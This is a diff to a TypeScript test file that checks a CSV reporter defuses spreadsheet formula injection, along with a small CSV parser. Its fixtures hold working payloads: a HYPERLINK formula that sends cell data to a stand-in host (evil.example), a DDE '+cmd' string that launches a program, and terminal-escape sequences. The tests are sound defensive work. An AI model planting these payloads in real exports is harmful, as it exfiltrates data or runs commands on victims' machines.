@@ -12,6 +12,7 @@ import { renderDiffMarkdown } from '../../src/reporters/drift-diff-markdown.js';
 import { renderDiffTable } from '../../src/reporters/drift-diff-table.js';
 import { renderTrendMarkdown } from '../../src/reporters/drift-trend-markdown.js';
 import { renderTrendTable } from '../../src/reporters/drift-trend-table.js';
+import { CSV_COLUMNS, renderCsv } from '../../src/reporters/csv.js';
 import { renderJson } from '../../src/reporters/json.js';
 import { renderMarkdown } from '../../src/reporters/markdown.js';
 import { renderTable } from '../../src/reporters/table.js';
@@ -127,5 +128,75 @@ describe('terminal escapes in the reporters', () => {
     const markdown = renderTrendMarkdown(trend);
     expect(markdown).not.toMatch(RAW_CONTROL);
     expect(markdown).toContain('w1\\x1b]0;pwned\\x07\\x1b[2J.json');
+  });
+});
+
+/** RFC 4180 records (quoted fields may hold commas, quotes doubled, CR and LF). */
+function csvRecords(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let field = '';
+  let isQuoted = false;
+  for (let i = 0; i < text.length; i += 1) {
+    const c = text[i] as string;
+    if (isQuoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i += 1;
+      } else if (c === '"') isQuoted = false;
+      else field += c;
+    } else if (c === '"') isQuoted = true;
+    else if (c === ',') {
+      record.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      record.push(field);
+      records.push(record);
+      record = [];
+      field = '';
+      i += 1;
+    } else field += c;
+  }
+  return records;
+}
+
+describe('CSV formula injection', () => {
+  /** GCP custom-role permissions are free text in the snapshot: service and action come from them. */
+  function formulaReport(): Report {
+    const report = twoAccountsPartialCoverage();
+    const [first, second] = report.findings;
+    const permission = first?.permissions[0];
+    if (first === undefined || second === undefined || permission === undefined) throw new Error('fixture changed');
+    first.service = '=HYPERLINK("https://evil.example/?q="&A1,"click")';
+    permission.action = '@SUM(1)';
+    const other = first.permissions[1];
+    if (other !== undefined) other.action = '-1+2';
+    const third = first.permissions[2];
+    if (third !== undefined) third.action = '+cmd|\' /C calc\'!A0';
+    first.account = '\t=1+1';
+    first.principal.id = '\r=1+1';
+    second.firstSeen = '-2024-01-01';
+    return report;
+  }
+
+  it('neutralises every cell that starts with = + - @ tab or CR, in every column', () => {
+    const [header, ...rows] = csvRecords(renderCsv(formulaReport()));
+    expect(header).toEqual([...CSV_COLUMNS]);
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const cells = rows.flat();
+    expect(cells).toContain('\'=HYPERLINK("https://evil.example/?q="&A1,"click")');
+    expect(cells).toContain("'@SUM(1)");
+    // No column of the CSV is numeric (counts are not exported; ids and dates are text), so a
+    // leading minus is never a legitimate negative number here: it is neutralised like the rest.
+    expect(cells).toContain("'-1+2");
+    expect(cells).toContain("'+cmd|' /C calc'!A0");
+    expect(cells).toContain("'\t=1+1");
+    expect(cells).toContain("'\r=1+1");
+    expect(cells).toContain("'-2024-01-01");
+  });
+
+  it('leaves ordinary values as they are', () => {
+    const rows = csvRecords(renderCsv(twoAccountsPartialCoverage())).slice(1);
+    expect(rows.flat().filter((c) => c.startsWith("'"))).toEqual([]);
   });
 });
